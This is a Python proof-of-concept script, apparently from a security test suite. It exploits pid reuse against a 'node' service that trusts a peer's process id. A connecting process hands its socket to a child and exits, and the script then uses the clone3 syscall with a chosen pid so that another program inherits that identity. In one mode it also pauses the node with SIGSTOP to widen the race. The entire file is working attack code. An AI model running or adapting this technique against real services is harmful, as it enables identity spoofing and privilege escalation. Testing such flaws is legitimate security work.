"""A process asks, leaves its connection with a child and ends; a program that has an identity then gets its pid.

before  all of it happens before the node accepts the connection
after   the node knows the connection when the process ends

An attacker without privileges forks until the pid comes round. This one runs as root and names the pid (clone3), which loses no time and
changes nothing about what the node sees; whoever speaks and whoever has the pid are ordinary processes.
"""

import ctypes
import os
import signal
import struct
import sys

from attacker import SLEEPER, TRIALS, Reader, answer, argument, become, call, connect, libc, opening, runs, say

CLONE3 = 435
NODE = int(os.environ["ATTACK_NODE_PID"])
UID = int(os.environ["ATTACK_UID"])
moment = argument()


def fork_with_pid(pid):
    wanted = (ctypes.c_int * 1)(pid)
    arguments = (ctypes.c_uint64 * 11)(0, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, ctypes.addressof(wanted), 1, 0)
    return libc.syscall(CLONE3, ctypes.byref(arguments), ctypes.sizeof(arguments))


def asker():
    """Connects, lets a child hold the connection, and ends."""
    become(UID)
    connection = connect()
    connection.sendall(opening() if moment == "after" else opening() + call())
    reader = Reader(connection)
    if moment == "after":
        reader.until_pong()
    if os.fork() == 0:
        os.read(ready_reading, 1)  # whoever arranges this says when the pid has been taken
        try:
            if moment == "after":
                connection.sendall(call())
            answer(connection)
        except OSError as error:
            say(nothing=str(error))
        os.write(done_writing, b"d")
        os._exit(0)
    os._exit(0)


for _ in range(TRIALS):
    ready_reading, ready_writing = os.pipe()
    done_reading, done_writing = os.pipe()
    if moment == "before":
        os.kill(NODE, signal.SIGSTOP)
    try:
        first = os.fork()
        if first == 0:
            try:
                asker()
            finally:
                os._exit(1)
        os.waitpid(first, 0)
        taken = fork_with_pid(first)
        if taken == 0:
            become(UID)
            os.execv(SLEEPER, ["sleeper", "60"])
        if taken < 0:
            say(nothing="the pid was not to be had")
        else:
            runs(taken, SLEEPER)
    finally:
        os.kill(NODE, signal.SIGCONT)
    os.write(ready_writing, b"g")
    os.read(done_reading, 1)
    if taken > 0:
        os.kill(taken, 9)
        os.waitpid(taken, 0)
    for descriptor in (ready_reading, ready_writing, done_reading, done_writing):
        os.close(descriptor)
sys.exit(0)
